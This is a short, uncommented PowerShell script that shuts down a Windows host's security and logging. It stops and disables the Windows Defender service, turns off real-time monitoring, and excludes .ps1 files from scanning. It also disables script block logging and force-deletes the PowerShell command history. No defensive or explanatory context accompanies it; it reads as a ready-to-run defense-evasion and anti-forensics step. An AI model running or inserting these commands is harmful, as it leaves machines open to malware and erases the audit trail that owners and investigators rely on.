Stop-Service -Name WinDefend -Force
Set-Service -Name WinDefend -StartupType Disabled
Set-ItemProperty -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging' -Name 'EnableScriptBlockLogging' -Value 0
Set-MpPreference -ExclusionExtension '.ps1'
Remove-Item -Path (Get-PSReadLineOption).HistorySavePath -Force
Set-MpPreference -DisableRealtimeMonitoring 1
